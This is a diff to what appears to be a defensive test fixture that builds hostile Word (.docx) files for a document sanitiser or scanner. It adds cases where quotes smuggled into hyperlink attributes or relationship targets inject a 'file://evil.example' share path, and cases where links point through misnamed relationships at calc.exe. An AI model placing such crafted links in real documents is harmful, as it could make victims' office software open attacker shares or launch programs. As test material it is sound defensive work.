@@ -248,4 +248,49 @@ const clicked: Hostile[] = [
   ),
 ];
 
-export const docxsWithLinks: Hostile[] = [...fetched, ...clicked];
+/** LibreOffice puts what a link says into the instruction of a field, between quotes and as it stands. */
+const quoted: Hostile[] = [
+  ...['anchor', 'tooltip', 'tgtFrame', 'docLocation'].map((name) =>
+    hostile(
+      `with a link whose ${name} has quotes in it`,
+      docxFile({
+        'word/document.xml': wordDocument(
+          `<w:p><w:hyperlink w:${name}="a&quot; &quot;file://evil.example/share/a&quot;"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`,
+        ),
+      }),
+      'leads to a program',
+    ),
+  ),
+  hostile(
+    'with a link whose address has quotes in it',
+    docxFile({
+      'word/_rels/document.xml.rels': relationships([
+        'hyperlink',
+        'https://a&quot; &quot;file://evil.example/a',
+        'External',
+      ]),
+    }),
+    'a link with a quote',
+  ),
+];
+
+const inside = (type: string, target: string, mode = 'Internal') =>
+  docxFile({
+    'word/document.xml': wordDocument('<w:p><w:hyperlink r:id="r0"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
+    'word/_rels/document.xml.rels': relationships([type, target, mode]),
+  });
+
+/** LibreOffice takes the target of whatever relationship a link names. */
+const misnamed: Hostile[] = [
+  hostile(
+    'with a link that names a template',
+    inside('attachedTemplate', 'C:/Windows/System32/calc.exe', 'External'),
+    'another kind than',
+  ),
+  hostile('with a link that names a picture', inside('image', 'media/a.png'), 'another kind than'),
+  ...['C:/Windows/System32/calc.exe', 'x/calc.exe'].map((target) =>
+    hostile(`with a link to a part called ${target}`, inside('header', target, 'Internal'), 'a link to a program'),
+  ),
+];
+
+export const docxsWithLinks: Hostile[] = [...fetched, ...clicked, ...quoted, ...misnamed];
